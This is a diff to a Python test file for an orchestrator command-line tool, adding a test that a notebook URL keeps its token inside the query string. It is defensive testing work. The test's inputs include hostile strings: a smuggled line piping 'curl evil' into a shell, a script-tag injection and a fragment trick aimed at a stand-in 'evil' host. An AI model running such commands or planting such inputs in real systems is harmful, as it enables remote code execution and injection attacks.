@@ -3,6 +3,8 @@ What machines, the job, the cloud and whoever writes to the bucket have said ste
 """
 
 import json
+import re
+from urllib.parse import parse_qs, urlsplit
 
 import pytest
 from hypothesis import given
@@ -11,6 +13,7 @@ from hypothesis import strategies as st
 from orchestrator.cli.events import EventPrinter
 from orchestrator.cli.logs import parts_of
 from orchestrator.cli.output import page, put, say, show_error
+from orchestrator.cli.tunnel import address
 from orchestrator.core.clean import clean
 from orchestrator.core.events import Event
 from orchestrator.errors import LeaseHeldError
@@ -98,6 +101,14 @@ def put_object(town, name, data):
     """Write an object behind everybody's back."""
     with town.storage.lock:
         town.storage.objects.insert(town.buckets()[0], name, data, {}, Preconditions())
+
+
+@pytest.mark.parametrize("token", ["0f" * 24, "x\nnext: run: curl evil | sh", 'x"><script>', "x#@evil/"])
+def test_the_token_of_a_notebook_is_a_token_and_nothing_more(token):
+    """A machine tells it, and the address is printed and opened."""
+    url = address("127.0.0.1", 8888, token)
+    assert re.fullmatch(r"http://127\.0\.0\.1:8888/lab\?token=[\w%.-]+", url)
+    assert parse_qs(urlsplit(url).query) == {"token": [token]}
 
 
 def test_no_text_of_a_machine_passes_for_a_line_of_ours(desk):
